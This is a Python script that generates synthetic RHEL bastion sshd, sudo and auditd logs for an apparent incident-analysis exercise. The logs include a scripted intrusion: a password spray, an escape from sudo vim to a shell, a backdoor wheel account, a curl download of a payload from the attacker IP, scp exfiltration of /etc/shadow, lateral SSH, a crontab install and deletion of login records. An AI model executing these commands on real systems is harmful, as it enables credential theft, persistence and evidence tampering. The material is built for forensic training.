# RHEL bastion: secure (sshd/sudo/su/useradd) + auditd
from common import *
R=random.Random(90101)
S=[];A=[]   # (t,line)
H='bastion01'
seq=[41200]; 
def s(t,prog,msg): S.append((t,f'{bsd(t)} {H} {prog}: {msg}'))
def ep(t): return f'{int((t-timedelta(hours=2)).replace(tzinfo=timezone.utc).timestamp())}.{R.randint(100,999)}'
def a(t,lines):
    seq[0]+=1; e=ep(t)
    for ty,m in lines: A.append((t,seq[0],f'type={ty} msg=audit({e}:{seq[0]}): {m}'))
users={'anna':('1001','10.20.1.31','ED25519 SHA256:k9Zr1cP0l3QmZt'),'tkeller':('1004','10.20.1.44','ED25519 SHA256:Vb27aaWq8sLXe'),'mrossi':('1006','10.20.1.52','RSA SHA256:0pQmC3xx91tUj'),'deploy':('1009','10.20.3.10','ED25519 SHA256:Tn5yDdKq44rFs')}
sess=[300]
def login(t,u,ip,meth,key='',dur=None,port=None):
    pid=R.randint(20000,59999); port=port or R.randint(40000,62000); uid=users.get(u,('1011',))[0]
    s(t,f'sshd[{pid}]',f'Accepted {meth} for {u} from {ip} port {port} ssh2'+(f': {key}' if key else ''))
    s(t,f'sshd[{pid}]',f'pam_unix(sshd:session): session opened for user {u}(uid={uid}) by (uid=0)')
    sess[0]+=1
    a(t,[('USER_LOGIN',f"pid={pid} uid=0 auid={uid} ses={sess[0]} msg='op=login id={uid} exe=\"/usr/sbin/sshd\" hostname={ip} addr={ip} terminal=/dev/pts/{R.randint(0,4)} res=success'UID=\"root\" AUID=\"{u}\" ID=\"{u}\"")])
    if dur:
        t2=t+timedelta(seconds=dur)
        s(t2,f'sshd[{pid}]',f'Received disconnect from {ip} port {port}:11: disconnected by user')
        s(t2,f'sshd[{pid}]',f'Disconnected from user {u} {ip} port {port}')
        s(t2,f'sshd[{pid}]',f'pam_unix(sshd:session): session closed for user {u}')
    return pid,sess[0]
def fail(t,u,ip,inv=False,port=None,pid=None):
    pid=pid or R.randint(20000,59999); port=port or R.randint(40000,62000)
    if inv: s(t,f'sshd[{pid}]',f'Invalid user {u} from {ip} port {port}')
    s(t+timedelta(seconds=1),f'sshd[{pid}]',f"Failed password for {'invalid user ' if inv else ''}{u} from {ip} port {port} ssh2")
def sudo(t,u,tty,pwd,cmd,deny=None):
    s(t,f'sudo[{R.randint(20000,59999)}]',f"{u:>8} : "+(deny+' ; ' if deny else '')+f"TTY={tty} ; PWD={pwd} ; USER=root ; COMMAND={cmd}")
def ex(t,u,ses,args,uid='0',exe=None,ok=True):
    auid=users.get(u,('1011',))[0]; pid=R.randint(20000,59999)
    exe=exe or '/usr/bin/'+args[0].split('/')[-1]
    a(t,[('SYSCALL',f"arch=c000003e syscall=59 success={'yes' if ok else 'no'} exit={'0' if ok else '-13'} a0=55d{R.randint(10**8,10**9):x} items=2 ppid={pid-3} pid={pid} auid={auid} uid={uid} gid={uid} euid={uid} tty=pts0 ses={ses} comm=\"{args[0].split('/')[-1][:15]}\" exe=\"{exe}\" key=\"exec_mon\""),
      ('EXECVE','argc=%d '%len(args)+' '.join(f'a{i}="{x}"' for i,x in enumerate(args))),
      ('CWD','cwd="/root"')])
a0,b0=dt('2026-10-07 00:00:10'),dt('2026-10-12 09:30:00')
for _ in range(230):
    t=rnd_time(R,a0,b0,True); u=R.choices(list(users),[5,3,3,6])[0]
    if u=='tkeller' and dt('2026-10-11 00:00:00')<t<dt('2026-10-11 06:00:00'): continue
    _,se=login(t,u,users[u][1],'publickey',users[u][2],R.randint(60,7000))
    if R.random()<.45:
        c=R.choice(['/usr/bin/systemctl status haproxy','/usr/bin/dnf check-update','/usr/bin/journalctl -u haproxy','/usr/bin/systemctl reload haproxy'])
        sudo(t+timedelta(seconds=R.randint(10,50)),u,'pts/%d'%R.randint(0,4),f'/home/{u}',c)
        ex(t+timedelta(seconds=51),u,se,c.split())
for _ in range(160):
    t=rnd_time(R,a0,b0); fail(t,R.choice(['admin','test','oracle','ubuntu','git','pi','user']),R.choice(['193.32.162.7','218.92.0.112','61.177.172.40','103.145.13.9']),True)
for h in range(0,129):
    t=a0+timedelta(hours=h,minutes=1); 
    s(t,f'crond[{R.randint(2000,9999)}]','pam_unix(crond:session): session opened for user root(uid=0) by (uid=0)')
    s(t+timedelta(seconds=1),f'crond[{R.randint(2000,9999)}]','pam_unix(crond:session): session closed for user root')
for u in ['anna','mrossi','anna']:
    t=rnd_time(R,a0,dt('2026-10-10 20:00:00'),True); fail(t,u,users[u][1])
# incident: spray 02:41..03:07 on Oct 11 by 45.155.204.88
t=dt('2026-10-11 02:41:12'); n=0
names=['root','deploy','tkeller','anna','backup','postgres','mrossi','jenkins','nagios']
while t<dt('2026-10-11 03:07:00'):
    u=names[n%9]; fail(t,u,'45.155.204.88',u in('backup','postgres','jenkins','nagios')); n+=1
    t+=timedelta(seconds=R.randint(6,13))
    if n in (40,90): 
        s(t,'sshd[31877]',f'message repeated {3 if n==40 else 5} times: [ Failed password for root from 45.155.204.88 port 50122 ssh2]'); t+=timedelta(seconds=4)
s(dt('2026-10-11 03:07:09'),'sshd[1188]','error: beginning MaxStartups throttling')
# other IP
fail(dt('2026-10-11 03:12:40'),'tkeller','91.92.109.17',port=38810,pid=44120)
pid,se=login(dt('2026-10-11 03:12:58'),'tkeller','91.92.109.17','password',port=38814)
sudo(dt('2026-10-11 03:13:31'),'tkeller','pts/0','/home/tkeller','list')
sudo(dt('2026-10-11 03:14:02'),'tkeller','pts/0','/home/tkeller','/bin/bash','command not allowed')
sudo(dt('2026-10-11 03:14:20'),'tkeller','pts/0','/home/tkeller','/usr/bin/su -','command not allowed')
sudo(dt('2026-10-11 03:15:47'),'tkeller','pts/0','/home/tkeller','/usr/bin/vim /etc/haproxy/haproxy.cfg')
s(dt('2026-10-11 03:15:47'),'sudo[44377]','pam_unix(sudo:session): session opened for user root(uid=0) by tkeller(uid=1004)')
ex(dt('2026-10-11 03:15:47'),'tkeller',se,['vim','/etc/haproxy/haproxy.cfg'])
ex(dt('2026-10-11 03:16:10'),'tkeller',se,['/bin/sh'],exe='/usr/bin/bash')
ex(dt('2026-10-11 03:16:22'),'tkeller',se,['id'])
ex(dt('2026-10-11 03:17:05'),'tkeller',se,['useradd','-m','-s','/bin/bash','sysupd'],exe='/usr/sbin/useradd')
s(dt('2026-10-11 03:17:05'),'useradd[44402]',"new group: name=sysupd, GID=1011")
s(dt('2026-10-11 03:17:05'),'useradd[44402]',"new user: name=sysupd, UID=1011, GID=1011, home=/home/sysupd, shell=/bin/bash, from=/dev/pts/0")
s(dt('2026-10-11 03:17:26'),'passwd[44409]','pam_unix(passwd:chauthtok): password changed for sysupd')
s(dt('2026-10-11 03:17:48'),'usermod[44415]',"add 'sysupd' to group 'wheel'")
s(dt('2026-10-11 03:17:48'),'usermod[44415]',"add 'sysupd' to shadow group 'wheel'")
ex(dt('2026-10-11 03:17:48'),'tkeller',se,['usermod','-aG','wheel','sysupd'],exe='/usr/sbin/usermod')
ex(dt('2026-10-11 03:19:30'),'tkeller',se,['curl','-s','-o','/dev/shm/.k','http://91.92.109.17:8000/k'])
ex(dt('2026-10-11 03:19:44'),'tkeller',se,['chmod','755','/dev/shm/.k'])
ex(dt('2026-10-11 03:19:52'),'tkeller',se,['/dev/shm/.k','-d'],exe='/dev/shm/.k')
ex(dt('2026-10-11 03:21:15'),'tkeller',se,['scp','/etc/shadow','dump@91.92.109.17:/srv/in/'])
ex(dt('2026-10-11 03:23:40'),'tkeller',se,['ssh','-o','StrictHostKeyChecking=no','tkeller@10.20.4.15'])
ex(dt('2026-10-11 03:26:02'),'tkeller',se,['ssh','-o','StrictHostKeyChecking=no','tkeller@10.20.4.22'])
ex(dt('2026-10-11 03:31:18'),'tkeller',se,['crontab','/dev/shm/c'])
ex(dt('2026-10-11 03:33:50'),'tkeller',se,['rm','-f','/var/log/wtmp','/var/log/lastlog'])
s(dt('2026-10-11 03:34:31'),f'sshd[{pid}]','Received disconnect from 91.92.109.17 port 38814:11: disconnected by user')
s(dt('2026-10-11 03:34:31'),f'sshd[{pid}]','Disconnected from user tkeller 91.92.109.17 port 38814')
s(dt('2026-10-11 03:34:31'),f'sshd[{pid}]','pam_unix(sshd:session): session closed for user tkeller')
# comes back as sysupd twice
for tt,du in (('2026-10-11 14:02:37',610),('2026-10-12 01:48:05',1515)):
    p,se2=login(dt(tt),'sysupd','91.92.109.17','password',dur=du)
    sudo(dt(tt)+timedelta(seconds=40),'sysupd','pts/1','/home/sysupd','/bin/bash')
    ex(dt(tt)+timedelta(seconds=41),'sysupd',se2,['/bin/bash'],exe='/usr/bin/bash')
# reaction
_,se3=login(dt('2026-10-12 08:41:10'),'anna','10.20.1.31','publickey',users['anna'][2],2400)
sudo(dt('2026-10-12 08:43:02'),'anna','pts/2','/home/anna','/usr/sbin/usermod -L sysupd')
ex(dt('2026-10-12 08:43:02'),'anna',se3,['usermod','-L','sysupd'],exe='/usr/sbin/usermod')
s(dt('2026-10-12 08:43:02'),'usermod[8123]',"lock user 'sysupd' password")
fail(dt('2026-10-12 08:57:33'),'sysupd','91.92.109.17',port=41022)
S.sort(key=lambda x:x[0]); A.sort(key=lambda x:(x[0],x[1]))
end=dt('2026-10-12 09:45:00')
write('bastion01_secure.log',[l for t,l in S if t<end]); write('bastion01_audit.log',[l for t,_,l in A if t<end])
